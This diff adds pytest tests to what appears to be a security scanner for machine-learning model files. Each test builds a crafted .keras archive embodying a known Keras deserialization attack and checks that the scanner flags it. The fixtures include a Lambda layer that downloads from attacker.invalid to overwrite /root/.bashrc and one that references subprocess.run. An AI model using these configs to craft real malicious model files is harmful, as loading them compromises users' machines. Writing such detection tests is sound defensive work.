@@ -208,3 +208,76 @@ def test_zip_quine_recursion_is_bounded(tmp_path: Path) -> None:
         inner = build_zip([Member("self.zip", inner)])
     report = scan_bytes(tmp_path, inner, "quine.zip")
     assert "CONTAINER-DEPTH" in rules(report)
+
+
+def _keras_zip(tmp_path: Path, layer: dict) -> Path:  # type: ignore[type-arg]
+    import json
+    import zipfile
+
+    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
+    p = tmp_path / "model.keras"
+    with zipfile.ZipFile(p, "w") as zf:
+        zf.writestr("metadata.json", "{}")
+        zf.writestr("config.json", json.dumps(config))
+        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64)
+    return p
+
+
+def test_cve_2025_8747_keras_get_file_gadget(tmp_path: Path) -> None:
+    # JFrog 2025: a config that names keras.utils.get_file (inside the "trusted" keras package)
+    # downloads and overwrites files on load, safe_mode notwithstanding.
+    from mlsec.artifact import open_artifact
+    from mlsec.scan import scan
+
+    layer = {
+        "module": "keras.layers",
+        "class_name": "Lambda",
+        "config": {
+            "name": "l",
+            "function": {
+                "module": "keras.utils",
+                "class_name": "function",
+                "config": "get_file",
+                "registered_name": "function",
+            },
+            "arguments": {"fname": "/root/.bashrc", "origin": "http://attacker.invalid/x"},
+        },
+    }
+    report = scan(open_artifact(_keras_zip(tmp_path, layer)))
+    [f] = [f for f in report.findings if f.rule == "KERAS-FUNCTION-IMPORT"]
+    assert f.severity == "critical" and f.symbol == "keras.utils.get_file"
+
+
+def test_cve_2025_1550_keras_function_by_module(tmp_path: Path) -> None:
+    from mlsec.artifact import open_artifact
+    from mlsec.scan import scan
+
+    fn = {"module": "subprocess", "class_name": "function", "config": "run"}
+    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": fn}}
+    report = scan(open_artifact(_keras_zip(tmp_path, layer)))
+    assert ("KERAS-FUNCTION-IMPORT", "critical") in {(f.rule, f.severity) for f in report.findings}
+
+
+def test_cve_2024_3660_keras_lambda_bytecode(tmp_path: Path) -> None:
+    from mlsec.artifact import open_artifact
+    from mlsec.scan import scan
+
+    layer = {
+        "class_name": "Lambda",
+        "config": {
+            "name": "l",
+            "function": ["4wEAAAAAAAAA", None, None],
+            "function_type": "lambda",
+        },
+    }
+    report = scan(open_artifact(_keras_zip(tmp_path, layer)))
+    assert ("KERAS-LAMBDA", "critical") in {(f.rule, f.severity) for f in report.findings}
+
+
+def test_cve_2026_1462_keras_tfsmlayer(tmp_path: Path) -> None:
+    from mlsec.artifact import open_artifact
+    from mlsec.scan import scan
+
+    layer = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/x"}}
+    report = scan(open_artifact(_keras_zip(tmp_path, layer)))
+    assert "KERAS-TFSMLAYER" in rules(report)
